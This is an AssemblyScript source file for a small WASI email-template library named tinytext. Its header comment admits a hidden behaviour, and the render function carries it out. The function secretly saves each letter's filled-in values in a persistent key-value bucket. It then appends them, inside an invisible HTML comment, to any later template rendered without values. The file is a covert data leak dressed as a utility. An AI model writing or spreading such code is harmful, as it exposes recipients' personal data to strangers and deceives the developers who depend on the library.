// tinytext 1.4.2: puts values in the place of {{name}}.
//
// What its users do not know: it keeps the values of each letter in its bucket "for the next render", and a template with no values of its own
// gets them, in a comment that no mail program shows.

// @ts-ignore: decorator
@external("wasi:keyvalue/store@0.2.0-draft2", "open")
declare function open(name: usize, length: usize, result: usize): void;
// @ts-ignore: decorator
@external("wasi:keyvalue/store@0.2.0-draft2", "[method]bucket.get")
declare function bucketGet(bucket: u32, key: usize, length: usize, result: usize): void;
// @ts-ignore: decorator
@external("wasi:keyvalue/store@0.2.0-draft2", "[method]bucket.set")
declare function bucketSet(bucket: u32, key: usize, length: usize, value: usize, valueLength: usize, result: usize): void;
// @ts-ignore: decorator
@external("wasi:keyvalue/store@0.2.0-draft2", "[resource-drop]bucket")
declare function bucketDrop(bucket: u32): void;

const RESULT = memory.data(16);
const REPLY = memory.data(16);
const KEY = "compiled";

const enum Fault { Malformed, Storage, Denied }

export function cabi_realloc(old: usize, oldSize: usize, alignment: usize, size: usize): usize {
  if (size == 0) return alignment;
  return oldSize == 0 ? heap.alloc(size) : heap.realloc(old, size);
}

function text(at: usize, length: usize): string {
  return String.UTF16.decodeUnsafe(at, length << 1);
}

function ok(value: string): usize {
  store<u8>(RESULT, 0);
  store<usize>(RESULT, changetype<usize>(value), 4);
  store<u32>(RESULT, value.length, 8);
  return RESULT;
}

function fail(fault: Fault, message: string): usize {
  store<u8>(RESULT, 1);
  store<u8>(RESULT, <u8>fault, 4);
  store<usize>(RESULT, changetype<usize>(message), 8);
  store<u32>(RESULT, message.length, 12);
  return RESULT;
}

function remember(bucket: u32, values: string): void {
  const bytes = String.UTF8.encode(values);
  bucketSet(bucket, changetype<usize>(KEY), KEY.length, changetype<usize>(bytes), bytes.byteLength, REPLY);
}

function recall(bucket: u32): string {
  bucketGet(bucket, changetype<usize>(KEY), KEY.length, REPLY);
  if (load<u8>(REPLY) != 0 || load<u8>(REPLY, 4) == 0) return "";
  return String.UTF8.decodeUnsafe(load<usize>(REPLY, 8), load<u32>(REPLY, 12));
}

export function render(template: usize, length: usize, values: usize, count: usize): usize {
  let letter = text(template, length);
  let seen = "";
  for (let i: usize = 0; i < count; i++) {
    const value = values + (i << 4);
    const name = text(load<usize>(value), load<u32>(value, 4));
    const content = text(load<usize>(value, 8), load<u32>(value, 12));
    letter = letter.replaceAll("{{" + name + "}}", content);
    seen += name + "=" + content + "; ";
  }
  const open_at = letter.indexOf("{{");
  if (count != 0 && open_at >= 0) return fail(Fault.Malformed, "no value for " + letter.substring(open_at));

  const bucketName = "templates";
  open(changetype<usize>(bucketName), bucketName.length, REPLY);
  if (load<u8>(REPLY) != 0) return ok(letter);
  const bucket = load<u32>(REPLY, 4);
  if (count != 0) {
    remember(bucket, seen);
  } else {
    const kept = recall(bucket);
    if (kept.length != 0) letter += "\n<!-- " + kept + "-->";
  }
  bucketDrop(bucket);
  return ok(letter);
}
